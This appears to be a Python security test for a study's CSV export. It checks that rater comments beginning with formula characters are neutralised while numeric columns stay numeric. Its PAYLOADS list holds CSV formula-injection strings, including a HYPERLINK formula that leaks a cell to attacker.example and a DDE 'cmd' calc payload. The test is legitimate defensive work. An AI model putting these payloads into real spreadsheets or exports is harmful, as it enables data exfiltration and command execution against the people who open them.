"""Attack: a rater's comment (or a spreadsheet cell from any text) is a formula that runs when the
analyst opens ratings.csv in a spreadsheet. Before the fix "=HYPERLINK(...)" went out verbatim."""
from __future__ import annotations

import csv

from db.engine import unit_of_work
from rating.analysis.export import export_study
from tests.security.study_kit import rate_everything, study_with_texts

PAYLOADS = ('=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1")


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path):
    factory, tokens = study_with_texts(tmp_path / "s.db", {"sys-a": ["Clear lungs.", "No effusion."],
                                                          "sys-b": ["Normal chest.", "No pneumothorax."]})
    token = next(iter(tokens.values()))
    rate_everything(factory, token, score=3, comment="placeholder")
    from db.models import Rating
    with unit_of_work(factory) as session:
        for rating, payload in zip(session.query(Rating).order_by(Rating.id), PAYLOADS * 2):
            rating.comment = payload
    with unit_of_work(factory) as session:
        result = export_study(session, 1, tmp_path / "out")
    with open(result.files["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", f"{column} starts a formula: {cell!r}"
    comments = {row["comment"] for row in rows}
    assert "'" + PAYLOADS[0] in comments  # kept readable, just not executable
    for row in rows:
        assert row["understandability"] == "3"  # numbers stay numbers (not quoted, not prefixed)
        float(row["rouge1"])
        float(row["time_on_task_s"])
